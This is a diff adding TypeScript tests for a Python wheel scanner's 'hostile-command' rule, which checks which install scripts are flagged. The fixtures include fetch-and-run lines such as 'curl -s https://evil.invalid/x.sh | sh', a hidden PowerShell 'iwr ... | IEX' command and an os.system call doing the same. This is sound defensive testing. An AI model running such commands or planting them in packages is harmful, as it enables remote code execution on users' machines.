@@ -1,0 +1,43 @@
+import { memorySource } from '../../src/archive/memory-source.js';
+import { inspect } from '../../src/inspect.js';
+import type { Python } from '../../src/python/parser.js';
+import { packWheel } from '../support/pack.js';
+import { loadTestPython } from '../support/python.js';
+
+let python: Python;
+beforeAll(async () => {
+  python = await loadTestPython();
+});
+
+async function judged(path: string, text: string): Promise<string[]> {
+  const { bytes, filename } = packWheel({ 'x.py': 'X = 1\n', [path]: text }, { name: 'x', version: '1.0' });
+  const { findings } = await inspect(memorySource(bytes), filename, python);
+  return findings
+    .filter(({ rule }) => rule === 'hostile-command')
+    .map(({ severity, file, line }) => `${severity} ${file}:${line}`);
+}
+
+const FETCH = 'curl -s https://evil.invalid/x.sh | sh\n';
+
+test.each([
+  ['x-1.0.data/scripts/x', `#!/bin/sh\n${FETCH}`, 2],
+  ['x-1.0.data/scripts/x', `#!/usr/bin/env bash\ncurl -s \\\n  https://evil.invalid/x.sh \\\n | sh\n`, 2],
+  ['x-1.0.data/data/bin/x', `#!/bin/dash\n\n${FETCH}`, 3],
+  ['x-1.0.data/scripts/x.bat', 'start /b powershell -w hidden iwr https://evil.invalid/a | IEX\r\n', 1],
+])('a shell program %s that fetches and runs is a warning: %j', async (path, text, line) => {
+  expect(await judged(path, text)).toEqual([`MEDIUM ${path}:${line}`]);
+});
+
+test.each([
+  ['x-1.0.data/scripts/x', '#!/bin/sh\nexec python -m x "$@"\n'],
+  ['x-1.0.data/scripts/x', `#!/bin/sh\n# ${FETCH}`],
+  ['x-1.0.data/scripts/x', '#!/bin/sh\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n'],
+  ['x-1.0.data/data/share/x.sh', `#!/bin/sh\n${FETCH}`],
+])('%s is no finding: %j', async (path, text) => {
+  expect(await judged(path, text)).toEqual([]);
+});
+
+test('a program of Python is judged once', async () => {
+  const text = '#!python\nimport os\nos.system("curl -s https://evil.invalid/x.sh | sh")\n';
+  expect(await judged('x-1.0.data/scripts/x.sh', text)).toHaveLength(1);
+});
